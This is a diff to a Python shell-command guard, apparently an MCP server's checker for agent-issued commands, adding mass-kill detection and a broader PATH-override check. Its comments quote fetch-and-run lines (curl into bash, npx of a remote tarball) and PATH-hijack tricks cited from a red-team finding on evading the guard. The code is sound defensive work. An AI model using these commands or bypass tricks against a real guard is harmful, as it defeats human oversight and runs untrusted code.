@@ -37,7 +37,7 @@ from mcp_server_guard.shell.strings.feeds import (
     judge_stdin_lines,
     judge_stdin_substitutions,
 )
-from mcp_server_guard.shell.strings.matching import RUN_TIME_ARG, normalize_path
+from mcp_server_guard.shell.strings.matching import RUN_TIME_ARG, kills_everything, normalize_path
 from mcp_server_guard.shell.strings.parsing import MAX_COMMANDS, TooComplex, parse
 from mcp_server_guard.shell.strings.run_options import NETWORK_FED, option_commands
 from mcp_server_guard.shell.strings.runners import (
@@ -95,6 +95,17 @@ def _spawns_forever(source: str) -> bool:
 
 
 _NAMEREF = re.compile(r"\b(?:declare|typeset|local|export)\s+(?:-\w+\s+)*-\w*n")
+
+
+def _path_text(word: Word | None) -> str:
+    """A PATH value the line assigns, as text (its expansions of $PATH and $HOME kept for ``_check_program``); ""
+    where only run time knows it (``read PATH``, a command substitution, another variable)."""
+    if word is None:
+        return ""
+    if word.value is not None:
+        return word.value
+    text = word.raw.replace('"', "").replace("'", "")
+    return "" if re.search(r"\$(?!\{?(PATH|HOME)\b)", text) else text
 
 
 def _plainly_outside(directory: str) -> bool:
@@ -164,6 +175,8 @@ class Expander:
         self.moved = False  # the line has changed directory to a place outside the project (cd ~, cd /, cd ..)
         self.roots: tuple[str, ...] = ()  # the allowed directories, spelled out (the first: where the line starts)
         self.where = Where()  # where the line's relative paths may land (``writes.Where``), grown line by line
+        self.line_paths: list[str] = []  # PATH values the line sets anywhere ("": one only run time knows)
+        self.strict_names = False  # an allow-list judges: a name must be the program it names, installed or not
         self.exported: dict[str, Word] = {}  # variables the line exports (`export PIP_USER=1; pip install x`)
 
     def finding(self, kind: str, detail: str) -> None:
@@ -184,6 +197,7 @@ class Expander:
         self.downloaded.update(redirected_downloads(source))  # `curl -s URL > i.sh; bash i.sh`
         self.redirects.extend(parsed.redirects)
         self.where = self._places(parsed.commands)
+        self.line_paths += [_path_text(w) for w in parsed.assigned.get("PATH", [])]
         self.record(redirect_findings(parsed.redirects, self.where))
         self.record(parsed.findings)
         if parsed.evaluates_run_time:
@@ -349,6 +363,8 @@ class Expander:
         program = posixpath.basename(argv[0])
         rest = list(words[1:])
         self.record(destination_findings(program, argv, self.where, self.moved))
+        if kills_everything(program, argv):
+            self.finding("kill-everything", f"{program}'s pattern matches nearly every process")
         self._downloads(program, argv)
         if program in _URL_RUNNERS and any(a.startswith(("http://", "https://")) for a in argv[1:]):
             # Threat: `deno run -A https://…`, `npx https://x/evil.tgz`: code fetched and run as it arrives.
@@ -465,17 +481,30 @@ class Expander:
                 self.argv(part, None, depth + 1, feed=feed)
 
     def _check_program(self, name: str, path: str | None) -> None:
-        """Threat: `PATH=./fake:$PATH ls` or the call's env PATH running a look-alike `ls` from the project.
-        The program judged must be the one that runs: a name PATH resolves elsewhere is undecidable."""
+        """Threat: `PATH=./fake:$PATH ls`, the call's env PATH, or PATH set anywhere in the line (`declare PATH=bin;
+        ls`, `printf -v PATH %s bin`, `read PATH`: red team 20 F10) running a look-alike `ls` from the project. The
+        program judged must be the one that runs: a name PATH resolves elsewhere is undecidable."""
         if "/" in name or name == RUN_TIME_ARG:
             return
-        effective = path if path is not None else self.env.get("PATH")
-        if effective is None:
-            return
-        effective = effective.replace("$PATH", self.base_path).replace("${PATH}", self.base_path)
-        relative = any(not entry.startswith("/") for entry in effective.split(":"))  # resolved from the cwd
-        if relative or shutil.which(name, path=effective) != shutil.which(name, path=self.base_path):
-            self.finding("path-override", f"PATH makes {name!r} run a different program than the usual one")
+        paths: list[str | None] = [path] if path is not None else [*self.line_paths] or [self.env.get("PATH")]
+        for effective in paths:
+            if effective is None:
+                continue
+            if effective == "":
+                self.finding("path-override", "PATH is set to a value only known at run time")
+                return
+            home = self.home_path.rstrip("/")
+            spelled = effective
+            for name_of, value in (("PATH", self.base_path), ("HOME", home)):
+                spelled = spelled.replace(f"${{{name_of}}}", value).replace(f"${name_of}", value)
+            relative = any(not entry.startswith("/") for entry in spelled.split(":"))  # from the cwd, or unknown
+            usual = shutil.which(name, path=self.base_path)
+            # (A program the usual PATH lacks is judged as unknown anyway — `PATH=./node_modules/.bin:$PATH; eslint`
+            # — except under an allow-list, which names programs by name: red team 20 F10.)
+            known = usual is not None or path is not None or self.strict_names
+            if known and (relative or shutil.which(name, path=spelled) != usual):
+                self.finding("path-override", f"PATH makes {name!r} run a different program than the usual one")
+                return
 
     def _env(self, rest: list[Word], depth: int, feed: Feed) -> None:
         assignments: list[tuple[str, Word]] = []
